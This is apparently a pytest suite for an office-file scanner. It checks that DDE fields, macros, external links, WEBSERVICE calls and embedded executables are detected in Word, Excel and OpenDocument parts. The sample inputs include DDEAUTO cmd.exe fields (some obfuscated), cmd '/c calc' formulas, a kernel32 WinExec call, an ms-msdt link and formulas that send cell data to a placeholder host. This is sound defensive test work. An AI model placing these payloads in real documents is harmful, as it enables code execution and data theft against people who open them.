"""Inspection of office files: what runs or reaches out is found in every part."""

import io
import zipfile

import pytest

from crpv_portal.common import office_inspection
from crpv_portal.common.office_inspection import OfficeTrouble, trouble_in_office

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODF = "urn:oasis:names:tc:opendocument:xmlns"
NS = (
    f'xmlns:office="{ODF}:office:1.0" xmlns:text="{ODF}:text:1.0" xmlns:table="{ODF}:table:1.0" '
    f'xmlns:draw="{ODF}:drawing:1.0" xmlns:meta="{ODF}:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
RELATIONSHIP = '<R><Relationship Type="x/{}" Target="{}" TargetMode="{}"/></R>'


def trouble(content: str | bytes, name: str = "word/document.xml") -> OfficeTrouble | None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    with zipfile.ZipFile(written) as archive:
        return trouble_in_office(archive, lambda held: b"kept" in held)


def field(*words: str, name: str = "instrText") -> str:
    runs = "".join(f"<w:r><w:{name}>{each}</w:{name}></w:r>" for each in words)
    begin, separate, end = (
        f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")
    )
    return f"<w:d {W}>{begin}{runs}{separate}<w:t>DDE</w:t>{end}</w:d>"


@pytest.mark.parametrize(
    "content",
    [
        field(' HYPERLINK "https://a.test" '),
        field("PAGE"),
        field('HYPERLINK \\l "_Toc1" \\o "Note: la suite"'),
        field('HYPERLINK "C:\\\\Documents\\\\a.docx"'),
        field("DDEAUTO", name="t"),
        f"<w:d {W}>{field('TOC')}{field('REF ddeauto')}</w:d>",
        '<s xmlns="x"><f>SUM(A1:A9)</f><f>"cmd|x"&amp;IMAGES(1)</f><v>=cmd|1</v></s>',
        '<s xmlns="x"><f>HYPERLINK("https://a.test","DDE(1)")&amp;\'L"an\'!A1</f></s>',
        f'<d {NS}><table:c table:formula="of:=SUM({{1;2|3;4}})"/></d>',
        RELATIONSHIP.format("hyperlink", "mailto:a@a.test", "External"),
        RELATIONSHIP.format("image", "media/image1.png", "Internal"),
        f'<d {NS}><text:a xlink:href="https://a.test"/></d>',
        f'<d {NS}><draw:image xlink:href="Pictures/a.png"/></d>',
        f'<d {NS}><meta:template xlink:href="file:///usr/share/a.ott"/></d>',
        f'<d {NS}><table:c table:formula="of:=SUM([.A1])"/><text:p>DDE(</text:p></d>',
        f'<svg {NS}><image xlink:href="data:image/png;base64,AA"/></svg>',
    ],
)
def test_what_asks_nothing_of_elsewhere_is_no_trouble(content: str) -> None:
    assert trouble(content) is None


@pytest.mark.parametrize(
    "content",
    [
        field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
        field(" dd", "eauto ", "cmd"),
        field('DDEAUTO"c:\\\\windows\\\\cmd.exe"'),
        f'<w:d {W}><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:d>',
        field(' INCLUDEPICTURE "https://a.test/a.png" \\\\d'),
        f'<w:p {W}><w:fldSimple w:instr=" INCLUDETEXT a.docx "/></w:p>',
        f"<w:p {W}><w:instrText>DDE x y</w:instrText></w:p>",
        '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        '<connections xmlns="x"><connection id="1" refreshOnLoad="1"/></connections>',
        '<s xmlns="x"><f>_xlfn.WEBSERVICE("https://a.test/"&amp;A1)</f></s>',
        "<s xmlns=\"x\"><f>cmd|'/c calc'!A0</f></s>",
        # The name of a sheet may hold the sign that opens a text.
        '<s xmlns="x"><f>IF(0,\'"\'!A1,WEBSERVICE("https://a.test"&amp;""))</f></s>',
        '<s xmlns="x"><cfRule><formula>WEBSERVICE("https://a.test")</formula></cfRule></s>',
        '<s xmlns="x"><formula1>WEBSERVICE("https://a.test")=1</formula1></s>',
        "<s xmlns=\"x\"><f>'https://a.test/[a.xlsx]A'!A1</f></s>",
        "<s xmlns=\"x\"><f>'\\\\a.test\\[a.xlsx]A'!A1</f></s>",
        f"<d {NS}><table:c table:formula=\"of:=['file:///a.ods'#$A.A1]\"/></d>",
        f'<d {NS}><office:dde-source office:dde-application="soffice"/></d>',
        f'<d {NS}><table:c table:formula="of:=DDE(&quot;soffice&quot;;1)"/></d>',
        f'<d {NS}><table:cell-range-source xlink:href="../a.ods"/></d>',
        f'<d {NS}><draw:image xlink:href="//a.test/spy.png"/></d>',
        RELATIONSHIP.format("externalLinkPath", "a.xlsx", "External"),
    ],
)
def test_what_is_asked_of_elsewhere_is_found(content: str) -> None:
    assert trouble(content) is OfficeTrouble.ELSEWHERE


@pytest.mark.parametrize(
    "content",
    [
        field("MACROBUTTON Run here"),
        '<s xmlns="x"><f>CALL("kernel32","WinExec","JFJ","calc",0)</f></s>',
        '<p xmlns="x"><hlinkClick action="ppaction://program"/></p>',
        field('HYPERLINK \\t "_blank" "ms-msdt:/id PCWDiagnostic"'),
        '<s xmlns="x"><f>HYPERLINK("search-ms:a","Voir")</f></s>',
        '<T xmlns="x"><Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></T>',
        '<T xmlns="x"><Default ContentType="application/vnd.ms-office.vbaProject"/></T>',
        RELATIONSHIP.format("relationships/control", "a.xml", "Internal"),
        f'<d {NS}><draw:applet draw:code="a"/></d>',
        RELATIONSHIP.format("hyperlink", "JavaScript:alert(1)", "External"),
        f'<d {NS}><text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/></d>',
    ],
)
def test_what_would_run_is_found(content: str) -> None:
    assert trouble(content) is OfficeTrouble.PROGRAM


@pytest.mark.parametrize(
    "content",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"MZ\x90\0",
        b"PK\x03\x04 an archive of programs",
        b"%PDF-1.4 with a program",
        b"{\\rtf1 \\object}",
        b"L\0\0\0\1\x14\2\0 a shortcut",
        RELATIONSHIP.format("aFChunk", "a.html", "Internal"),
        f'<d {NS}><draw:object-ole xlink:href="./Object 1"/></d>',
    ],
)
def test_files_inside_the_file_are_found(content: str | bytes) -> None:
    assert trouble(content, "word/embeddings/a.bin") is OfficeTrouble.OBJECT


def test_a_part_is_read_whatever_its_name_and_its_encoding() -> None:
    assert trouble(b"PK\x03\x04 kept", "word/embeddings/a.xlsx") is None
    assert trouble(b"%PDF-1.4 kept", "Pictures/a.pdf") is None
    assert trouble(b"", "Configurations2/accelerator/current.xml") is None  # of LibreOffice
    hidden = field("DDEAUTO cmd")
    assert trouble(hidden, "word/media/image1.png") is OfficeTrouble.ELSEWHERE
    assert trouble(hidden.encode("utf-16"), "word/a") is OfficeTrouble.ELSEWHERE
    assert trouble(hidden.replace("DDE", "&#68;&#x44;E")) is OfficeTrouble.ELSEWHERE
    doctype = '<!DOCTYPE d [<!ENTITY a "DDEAUTO">]>'
    assert trouble(doctype + field("&a;")) is OfficeTrouble.DAMAGED


def test_elements_are_counted_over_all_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_inspection, "MAX_ELEMENTS", 10)
    assert trouble(f"<d>{'<a/>' * 9}</d>") is None
    assert trouble(f"<d>{'<a/>' * 10}</d>") is OfficeTrouble.UNBOUNDED


def test_a_field_of_many_parts_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """What each sign of a field has read again grew with the square of the file."""
    read = []
    judge = office_inspection._judge_field
    monkeypatch.setattr(
        office_inspection, "_judge_field", lambda words: (read.append(len(words)), judge(words))
    )
    signs = '<w:fldChar w:fldCharType="separate"/>' * 50
    assert trouble(f"<w:d {W}><w:instrText>{'a ' * 100_000}</w:instrText>{signs}</w:d>") is None
    assert len(read) > 50
    assert sum(read) < 200_000
